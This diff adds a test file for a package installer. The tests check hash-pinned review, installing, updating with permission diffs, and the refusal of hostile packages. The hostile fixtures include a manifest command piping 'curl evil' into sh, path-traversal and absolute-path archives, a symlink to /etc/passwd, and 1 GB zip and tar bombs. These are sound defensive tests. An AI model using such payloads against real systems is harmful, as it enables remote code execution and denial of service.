@@ -1,0 +1,517 @@
+import { execFileSync } from "node:child_process";
+import { chmodSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { dirname, join } from "node:path";
+import { constants, deflateRawSync } from "node:zlib";
+import { type ArchiveFile, fail, type Result, writeTarGz, writeZip } from "@capstan/core";
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
+import { type FreshStore, freshPglite } from "../../../../tools/stores-under-test.ts";
+import { type Database, openDatabase } from "../db/database.ts";
+import { createPackageHost, type PackageHost } from "./create-package-host.ts";
+import type { InstallOptions } from "./installer.ts";
+import { nodeCodec } from "./node-codec.ts";
+import type { PackageRecord, PackageStore } from "./package-record.ts";
+import { packageStore } from "./package-store.ts";
+import { demoManifest, file, testTarball, testWheel } from "./test-packages.ts";
+
+let store: FreshStore;
+let database: Database;
+let packages: PackageStore;
+let host: PackageHost;
+let home: string;
+const user = "dev@example.com";
+
+beforeAll(async () => {
+  store = await freshPglite();
+  chmodSync(store.dataDir, 0o755); // open to others, so that as root the packages run as another user
+  const opened = await openDatabase(store);
+  if (!opened.ok) throw new Error(opened.failure.message);
+  database = opened.value;
+  packages = packageStore(database);
+});
+afterAll(async () => {
+  await database.close();
+  await store.drop();
+});
+beforeEach(async () => {
+  home = join(store.dataDir, `host-${Math.random().toString(36).slice(2)}`);
+  mkdirSync(home, { recursive: true });
+  host = await hostIn(home);
+});
+afterEach(async () => {
+  for (const { name } of await packages.list()) await packages.remove(name);
+  rmSync(home, { recursive: true, force: true });
+});
+
+const KINDS = [
+  { kind: "wheel", build: testWheel, fileName: "aech_cli_demo-0.1.0-py3-none-any.whl" },
+  { kind: "npm", build: testTarball, fileName: "aech-cli-demo-0.1.0.tgz" },
+] as const;
+
+describe.each(KINDS)("a package of the kind $kind", ({ kind, build, fileName }) => {
+  const source = (change = {}) => ({ source: fileName, bytes: build(change) });
+  const install = (change = {}, options: Partial<InstallOptions> = { accept: true }) =>
+    host.installer.install(source(change), { user, ...options });
+
+  test("is reviewed before it is installed, and the review is the answer", async () => {
+    const review = value(await host.installer.review(source()));
+    expect(review).toMatchObject({
+      name: "aech-cli-demo",
+      version: "0.1.0",
+      kind,
+      role: "cli",
+      capability: "demo",
+      scopes: ["Demo.Use", "Demo.Write"],
+      commands: ["aech-cli-demo"],
+      tools: [
+        { name: "demo_echo", scopes: [] },
+        { name: "demo_write", scopes: ["Demo.Write"] },
+      ],
+      origin: fileName,
+      sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
+      size_bytes: build().length,
+      must_run_code: false,
+      not_isolated: expect.arrayContaining([expect.stringMatching(/network/)]),
+    });
+    expect(await install({}, {})).toMatchObject({
+      failure: { code: "package_review_needed", details: { sha256: review.sha256 } },
+    });
+    expect(filesIn(home)).toEqual([]);
+  });
+
+  test("is installed by the hash that was reviewed, runs, and is pinned", async () => {
+    const { sha256 } = value(await host.installer.review(source()));
+    const { record } = value(await install({}, { accept: sha256 }));
+    expect(await run(record, ["echo", "--loud", "--json", "hello"])).toMatchObject({ text: "HELLO" });
+    expect(lock()).toEqual({
+      lockfile_version: 1,
+      packages: { "aech-cli-demo": { kind, version: "0.1.0", sha256, origin: fileName } },
+    });
+  });
+
+  test("is not installed by another hash", async () => {
+    expect(await install({}, { accept: "0".repeat(64) })).toMatchObject({
+      failure: { code: "package_review_needed" },
+    });
+    expect(await packages.list()).toEqual([]);
+  });
+
+  test("leaves nothing when it is uninstalled", async () => {
+    value(await install());
+    value(await host.installer.uninstall("aech-cli-demo"));
+    expect(filesIn(home)).toEqual(["capstan.lock"]);
+    expect(lock().packages).toEqual({});
+    expect(await packages.list()).toEqual([]);
+    const { rows } = await database.pool.query("select count(*)::int as n from package_archives");
+    expect(rows).toEqual([{ n: 0 }]);
+  });
+
+  test("is unpacked by hash on a machine that did not install it", async () => {
+    const { record } = value(await install());
+    const elsewhere = join(home, "elsewhere");
+    const other = await hostIn(elsewhere);
+    expect(await run(record, ["echo", "there"], other)).toMatchObject({ text: "there" });
+  });
+
+  test("must run code to describe itself when it has no manifest, and only after a yes", async () => {
+    const described = { manifest: undefined, code: printing(kind, JSON.stringify(demoManifest)) };
+    expect(value(await host.installer.review(source(described)))).toMatchObject({
+      must_run_code: true,
+      tools: [],
+    });
+    expect(await install(described)).toMatchObject({ failure: { code: "package_must_run_code" } });
+    expect(filesIn(home)).toEqual([]);
+    const review = value(await host.installer.review(source(described), { runToDescribe: true }));
+    expect(review).toMatchObject({
+      must_run_code: false,
+      capability: "demo",
+      tools: [{ name: "demo_echo" }, { name: "demo_write" }],
+    });
+    expect(filesIn(home)).toEqual([]);
+    expect(
+      value(await install(described, { accept: review.sha256, runToDescribe: true })).record.description
+        .capability,
+    ).toBe("demo");
+  });
+
+  test.each([
+    ["hangs", hanging, /did not end within/],
+    ["floods", flooding, /printed more than/],
+    ["prints no JSON", (of: "wheel" | "npm") => printing(of, "usage: demo"), /no JSON/],
+    [
+      "describes a shell",
+      (of: "wheel" | "npm") => printing(of, JSON.stringify({ ...demoManifest, command: "sh -c id" })),
+      /command/,
+    ],
+    [
+      "describes a command of the system",
+      (of: "wheel" | "npm") => printing(of, JSON.stringify({ ...demoManifest, command: "aech-cli-other" })),
+      /no command "aech-cli-other"/,
+    ],
+  ])("whose --help %s is refused, and nothing is left on disk", async (_, code, message) => {
+    const hostile = { manifest: undefined, code: code(kind) };
+    const refused = await install(hostile, { accept: true, runToDescribe: true });
+    expect(refused.ok ? "" : refused.failure.message).toMatch(message);
+    expect(filesIn(home)).toEqual([]);
+    expect(await packages.list()).toEqual([]);
+  });
+
+  test.each([
+    [
+      "a shell in command",
+      { manifest: { ...demoManifest, command: "sh -c 'curl evil | sh'" } },
+      "manifest_invalid",
+    ],
+    [
+      "a command it does not bring",
+      { manifest: { ...demoManifest, command: "aech-cli-git" } },
+      "package_command_missing",
+    ],
+    ["a name outside the rules", { name: "left-pad" }, "package_name_invalid"],
+  ])("with %s is refused, and nothing is left on disk", async (_, change, code) => {
+    expect(await install(change)).toMatchObject({ failure: { code } });
+    expect(filesIn(home)).toEqual([]);
+  });
+
+  test("is updated with a permission diff, and with a yes when rights grow", async () => {
+    const first = value(await install()).record;
+    const [echo, write] = demoManifest.actions as [object, object];
+    const more = {
+      version: "0.2.0",
+      manifest: { ...demoManifest, actions: [echo, write, { ...write, name: "purge" }] },
+    };
+    const refused = await install(more, {});
+    expect(refused).toMatchObject({
+      failure: {
+        code: "package_review_needed",
+        details: { update: { from_version: "0.1.0", permissions: { grows: true, actionsAdded: ["purge"] } } },
+      },
+    });
+    expect(await packages.get("aech-cli-demo")).toEqual(first);
+    const { record } = value(await install(more));
+    expect(record.version).toBe("0.2.0");
+    expect(readdirSync(join(home, "packages")).filter((name) => name.startsWith(first.sha256))).toEqual([]);
+  });
+
+  test("is updated without a question when rights do not grow", async () => {
+    value(await install());
+    const { record } = value(await install({ version: "0.1.1" }, {}));
+    expect(record.version).toBe("0.1.1");
+    expect(lock().packages["aech-cli-demo"]?.version).toBe("0.1.1");
+  });
+
+  test("is refused when the same version has other bytes", async () => {
+    value(await install());
+    const changed = await install({ manifest: { ...demoManifest, description: "Something else" } });
+    expect(changed).toMatchObject({ failure: { code: "package_hash_changed" } });
+    value(await host.installer.uninstall("aech-cli-demo"));
+    writeFileSync(
+      join(home, "capstan.lock"),
+      JSON.stringify({
+        lockfile_version: 1,
+        packages: { "aech-cli-demo": { kind, version: "0.1.0", sha256: "0".repeat(64), origin: "x" } },
+      }),
+    );
+    expect(await install()).toMatchObject({ failure: { code: "package_hash_changed" } });
+  });
+
+  test("is refused when another has its capability", async () => {
+    const taken = await hostIn(home, () => "the built-in of that name");
+    expect(await taken.installer.install(source(), { user, accept: true })).toMatchObject({
+      failure: { code: "package_conflict" },
+    });
+    expect(filesIn(home)).toEqual([]);
+  });
+
+  test("dropped into capabilities/clis waits for review until it is installed", async () => {
+    const folder = join(home, "capabilities", "clis");
+    mkdirSync(folder, { recursive: true });
+    writeFileSync(join(folder, fileName), build());
+    const [waiting] = await host.waiting();
+    expect(waiting).toMatchObject({ path: join(folder, fileName), review: { name: "aech-cli-demo" } });
+    value(await host.installer.install({ source: waiting?.path ?? "" }, { user, accept: true }));
+    expect(await host.waiting()).toEqual([]);
+  });
+});
+
+describe("hostile archives", () => {
+  const evil = (path: string): ArchiveFile[] => [file(path, "x"), file("package/package.json", "{}")];
+  test.each([
+    ["a wheel that climbs out", "x.whl", () => writeZip(evil("../../evil.py"), nodeCodec)],
+    ["a tarball that climbs out", "x.tgz", () => writeTarGz(evil("package/../../evil.js"), nodeCodec)],
+    ["a tarball with an absolute path", "x.tgz", () => writeTarGz(evil("/etc/evil"), nodeCodec)],
+    ["a wheel with a link", "x.whl", zipWithLink],
+    ["a wheel that is a bomb of 1 GB", "x.whl", () => zipBomb(1024 ** 3)],
+    ["a wheel that is a bomb and says it is small", "x.whl", () => zipBomb(1000)],
+    ["a tarball that is a bomb of 1 GB", "x.tgz", tarBomb],
+    ["bytes that are no archive", "x.whl", () => new Uint8Array(5000)],
+    ["a wheel whose file differs from its record", "x.whl", tamperedWheel],
+  ])("%s is refused, and nothing is left on disk", async (_, source, bytes) => {
+    const outside = filesIn(dirname(home)).length;
+    const refused = await host.installer.install(
+      { source, bytes: bytes() },
+      { user, accept: true, runToDescribe: true },
+    );
+    expect(refused).toMatchObject({ ok: false, failure: { code: "archive_refused" } });
+    expect(filesIn(home)).toEqual([]);
+    expect(filesIn(dirname(home)).length).toBe(outside);
+  });
+
+  test("a folder with a link that leads out is refused", async () => {
+    const folder = join(home, "project");
+    mkdirSync(folder);
+    writeFileSync(join(folder, "package.json"), JSON.stringify({ name: "aech-cli-demo", version: "1.0.0" }));
+    symlinkSync("/etc/passwd", join(folder, "passwd"));
+    expect(await host.installer.review({ source: folder })).toMatchObject({
+      failure: { code: "archive_refused" },
+    });
+  });
+});
+
+describe("dependencies", () => {
+  test("of a wheel come from capabilities/clis when there is no index", async () => {
+    const folder = join(home, "capabilities", "clis");
+    mkdirSync(folder, { recursive: true });
+    const helper = testWheel({
+      name: "demo-helper",
+      version: "2.0.0",
+      manifest: undefined,
+      code: "WORD = 'helped'\n",
+    });
+    writeFileSync(join(folder, "demo_helper-2.0.0-py3-none-any.whl"), helper);
+    const code =
+      "import json, demo_helper.main\ndef cli(): print(json.dumps({'word': demo_helper.main.WORD}))\n";
+    const { record } = value(
+      await host.installer.install(
+        { source: "x.whl", bytes: testWheel({ code, dependencies: ["demo-helper>=1"] }) },
+        { user, accept: true },
+      ),
+    );
+    expect(record.dependency_lock).toContain("demo-helper==2.0.0");
+    expect(await run(record, [])).toEqual({ word: "helped" });
+  });
+
+  test("of a wheel that are nowhere give a clear refusal and leave nothing", async () => {
+    const offline = await hostIn(home, () => undefined, {
+      PIP_INDEX_URL: "http://127.0.0.1:9/",
+      PIP_RETRIES: "0",
+    });
+    const refused = await offline.installer.install(
+      { source: "x.whl", bytes: testWheel({ dependencies: ["no-such-package-anywhere"] }) },
+      { user, accept: true },
+    );
+    expect(refused).toMatchObject({
+      failure: {
+        code: "package_dependencies_missing",
+        nextStep: expect.stringMatching(/capabilities\/clis/),
+      },
+    });
+    expect(filesIn(home)).toEqual([]);
+  });
+
+  test("of an npm package come from the registry, and no script runs unless allowed", async () => {
+    const registry = await startRegistry();
+    const env = {
+      npm_config_registry: registry.url,
+      npm_config_cache: join(home, "cache"),
+      npm_config_userconfig: "/dev/null",
+    };
+    const own = await hostIn(home, () => undefined, env);
+    const code =
+      'import { word } from "helper"; import { existsSync } from "node:fs"; console.log(JSON.stringify({ word, ran: existsSync(new URL("./node_modules/helper/ran", import.meta.url)) }));';
+    const bytes = testTarball({ code, dependencies: ["helper@^1.0.0"] });
+    const { record } = value(await own.installer.install({ source: "x.tgz", bytes }, { user, accept: true }));
+    expect(await run(record, [], own)).toEqual({ word: "helped", ran: false });
+    expect(JSON.parse(record.dependency_lock ?? "{}").packages["node_modules/helper"].version).toBe("1.0.0");
+    expect(await own.installer.review({ source: "helper@1.0.0" })).toMatchObject({
+      failure: { code: "package_name_invalid" },
+    });
+    registry.server.close();
+  });
+});
+
+test("a data folder closed to others is named in the review", async () => {
+  chmodSync(home, 0o700);
+  const closed = await hostIn(home);
+  const review = value(await closed.installer.review({ source: "x.tgz", bytes: testTarball() }));
+  expect(review.not_isolated.join(" ")).toMatch(/run as the server's own user/);
+});
+
+test("a machine without Python says so", async () => {
+  const own = await hostIn(home, () => undefined, { PATH: join(home, "empty") });
+  expect(
+    await own.installer.install({ source: "x.whl", bytes: testWheel() }, { user, accept: true }),
+  ).toMatchObject({ failure: { code: "python_missing", nextStep: expect.stringMatching(/python3-venv/) } });
+  expect(filesIn(home)).toEqual([]);
+});
+
+test("a folder is packed on the way: a Python project, a Node project, and a service with its command in cli/", async () => {
+  const python = join(home, "aech-rt-demo", "cli");
+  mkdirSync(join(python, "aech_cli_demo"), { recursive: true });
+  writeFileSync(
+    join(python, "pyproject.toml"),
+    '[project]\nname = "aech-cli-demo"\nversion = "0.1.0"\n[project.scripts]\naech-cli-demo = "aech_cli_demo.main:cli"\n',
+  );
+  writeFileSync(join(python, "aech_cli_demo", "__init__.py"), "");
+  writeFileSync(join(python, "manifest.json"), JSON.stringify(demoManifest));
+  const service = join(home, "aech-rt-demo");
+  writeFileSync(join(service, "docker-compose.yml"), "services: {}\n");
+  expect(value(await host.installer.review({ source: python }))).toMatchObject({
+    kind: "wheel",
+    capability: "demo",
+  });
+  expect(
+    value(await host.installer.install({ source: service }, { user, accept: true })).record,
+  ).toMatchObject({ service_folder: service, kind: "wheel" });
+  const node = join(home, "node-project");
+  mkdirSync(node);
+  writeFileSync(
+    join(node, "package.json"),
+    JSON.stringify({ name: "capstan-cli-other", version: "1.0.0", bin: { "capstan-cli-other": "main.mjs" } }),
+  );
+  writeFileSync(join(node, "main.mjs"), "");
+  writeFileSync(
+    join(node, "manifest.json"),
+    JSON.stringify({ ...demoManifest, name: "other", command: "capstan-cli-other" }),
+  );
+  expect(value(await host.installer.review({ source: node }))).toMatchObject({
+    kind: "npm",
+    capability: "other",
+  });
+});
+
+test.each(["/no/such/path.whl", "Not A Thing!", "../nowhere"])(
+  "%s is nothing that can be installed",
+  async (source) => {
+    const refused = await host.installer.review({ source });
+    expect(refused).toMatchObject({
+      ok: false,
+      failure: { code: expect.stringMatching(/package_source_unknown/) },
+    });
+  },
+);
+
+async function hostIn(
+  dataDir: string,
+  ownerOf: (capability: string) => string | undefined = () => undefined,
+  env: Record<string, string> = {},
+): Promise<PackageHost> {
+  return createPackageHost({
+    dataDir,
+    store: packages,
+    lockPath: join(dataDir, "capstan.lock"),
+    toolEnvironment: { PATH: process.env.PATH ?? "", HOME: process.env.HOME ?? "", ...env },
+    download: async (url) => fail("url_invalid", { url }),
+    ownerOf,
+    now: () => new Date("2026-01-01T00:00:00Z"),
+    helpTimeoutMs: 2500,
+  });
+}
+
+async function run(record: PackageRecord, args: string[], on = host): Promise<unknown> {
+  const [command = "", ...first] = value(await on.placed.commandLine(record, "aech-cli-demo"));
+  return JSON.parse(
+    execFileSync(command, [...first, ...args], { encoding: "utf8", env: { HOME: "/nowhere" } }),
+  );
+}
+
+function value<T>(result: Result<T>): T {
+  if (!result.ok) throw new Error(`${result.failure.code}: ${result.failure.message}`);
+  return result.value;
+}
+
+function filesIn(folder: string): string[] {
+  const found = readdirSync(folder, { recursive: true, withFileTypes: true });
+  return found.filter((entry) => !entry.isDirectory()).map(({ name }) => name);
+}
+
+const lock = (): { packages: Record<string, { version: string }> } =>
+  JSON.parse(readFileSync(join(home, "capstan.lock"), "utf8"));
+
+function printing(kind: "wheel" | "npm", text: string): string {
+  return kind === "wheel"
+    ? `def cli(): print(${JSON.stringify(text)})\n`
+    : `console.log(${JSON.stringify(text)})`;
+}
+function hanging(kind: "wheel" | "npm"): string {
+  return kind === "wheel" ? "import time\ndef cli(): time.sleep(600)\n" : "setInterval(() => {}, 1000)";
+}
+function flooding(kind: "wheel" | "npm"): string {
+  return kind === "wheel"
+    ? "def cli():\n  while True: print('x' * 100000)\n"
+    : "const more = () => process.stdout.write('x'.repeat(1e5), more); more();";
+}
+
+function zipWithLink(): Uint8Array {
+  const zip = writeZip([file("link", "/etc/passwd")], nodeCodec);
+  new DataView(zip.buffer, zip.byteOffset).setUint32(signature(zip) + 38, (0o120777 << 16) >>> 0, true);
+  return zip;
+}
+
+/** 1 GB of zeros in about 1 MB of deflate: one flushed megabyte, repeated. */
+function zeros(): Buffer {
+  const megabyte = deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: constants.Z_FULL_FLUSH });
+  return Buffer.concat([...Array.from({ length: 1024 }, () => megabyte), Buffer.from([3, 0])]);
+}
+
+function zipBomb(says: number): Uint8Array {
+  const zip = writeZip([file("zeros", "")], { ...nodeCodec, deflateRaw: zeros });
+  const view = new DataView(zip.buffer, zip.byteOffset);
+  for (const at of [22, signature(zip) + 24]) view.setUint32(at, says, true);
+  return zip;
+}
+
+function tarBomb(): Uint8Array {
+  const head = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);
+  return Buffer.concat([head, zeros(), Buffer.alloc(8)]);
+}
+
+function tamperedWheel(): Uint8Array {
+  return writeZip(
+    [
+      file("aech_cli_demo-0.1.0.dist-info/METADATA", "Name: aech-cli-demo\nVersion: 0.1.0\n"),
+      file("aech_cli_demo-0.1.0.dist-info/RECORD", "aech_cli_demo-0.1.0.dist-info/METADATA,sha256=AAAA,5\n"),
+    ],
+    nodeCodec,
+  );
+}
+
+function signature(zip: Uint8Array): number {
+  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
+  for (let at = zip.length - 4; at >= 0; at--) if (view.getUint32(at, true) === 0x02014b50) return at;
+  throw new Error("no central directory");
+}
+
+/** An npm registry with one package, whose postinstall leaves a file when it runs. */
+async function startRegistry(): Promise<{ url: string; server: Server }> {
+  const json = {
+    name: "helper",
+    version: "1.0.0",
+    type: "module",
+    main: "index.js",
+    scripts: { postinstall: "node -e \"require('fs').writeFileSync('ran','')\"" },
+  };
+  const tarball = writeTarGz(
+    [
+      file("package/package.json", JSON.stringify(json)),
+      file("package/index.js", "export const word = 'helped';"),
+    ],
+    nodeCodec,
+  );
+  const server = createServer((request, response) => {
+    if (request.url?.endsWith(".tgz")) return response.end(tarball);
+    const dist = { tarball: `http://127.0.0.1:${port}/helper-1.0.0.tgz` };
+    response.setHeader("content-type", "application/json");
+    return response.end(
+      JSON.stringify({
+        name: "helper",
+        "dist-tags": { latest: "1.0.0" },
+        versions: { "1.0.0": { ...json, dist } },
+      }),
+    );
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const { port } = server.address() as AddressInfo;
+  return { url: `http://127.0.0.1:${port}/`, server };
+}
